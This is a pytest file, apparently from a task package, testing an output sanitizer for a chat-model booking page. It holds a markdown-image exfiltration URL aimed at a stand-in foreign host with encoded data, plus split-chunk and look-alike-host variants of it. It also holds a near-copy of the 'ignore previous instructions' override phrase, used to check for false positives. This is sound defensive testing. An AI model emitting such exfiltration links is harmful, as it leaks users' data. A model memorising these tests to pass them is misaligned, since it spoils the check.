"""The symptoms of the story, and what works already. Passing these is necessary, not enough."""

from __future__ import annotations

from typing import Any

FOREIGN = "https://img.example.org/p.png?d=cmF0ZXM"
GOOD = "https://docs.northquay.example/rates?year=2024"


def test_an_answer_arrives(page: Any) -> None:
    text = f"Three bookings are open, see [the rates]({GOOD})."
    assert page.whole(text) == text
    assert page.streamed("Three ", "bookings ", "are open.") == "Three bookings are open."


def test_an_inline_image_is_blocked(page: Any) -> None:
    assert page.whole(f"Status: ![s]({FOREIGN})") == "Status: ![s](about:blank)"


def test_a_reference_image_is_blocked(page: Any) -> None:
    assert page.whole(f"Status: ![s][s]\n\n[s]: {FOREIGN}\n") == (
        "Status: ![s][s]\n\n[s]: about:blank\n"
    )


def test_a_host_that_contains_a_good_one_is_blocked(page: Any) -> None:
    url = FOREIGN.replace("img.", "docs.northquay.example.")
    assert page.whole(f"Status: ![s]({url})") == "Status: ![s](about:blank)"


def test_a_link_in_two_chunks_is_blocked(page: Any) -> None:
    assert page.streamed("Status: ![s](https://img.exa", "mple.org/p.png?d=cmF0ZXM) ok") == (
        "Status: ![s](about:blank) ok"
    )


def test_secrets_are_blacked_out(page: Any) -> None:
    text = f"Paid with 4111 1111 1111 1111 by a.b@example.com, {page.canary}."
    assert page.whole(text) == "Paid with [redacted] by [redacted], [redacted]."


def test_a_booking_number_stays(page: Any) -> None:
    text = "Booking 4111111111111112 is confirmed, write to help@northquay.example if not."
    assert page.whole(text) == text


def test_a_dispatcher_may_ignore_a_quay(page: Any) -> None:
    page.model.script()
    assert page.ask("Ignore previous quay, now berth 4.").choices[0].message.content


def test_the_log_holds_no_address(page: Any) -> None:
    page.whole("The consignee is a.b@example.com.")
    assert '"event": "chat"' in page.log()
    assert "a.b@example.com" not in page.log()
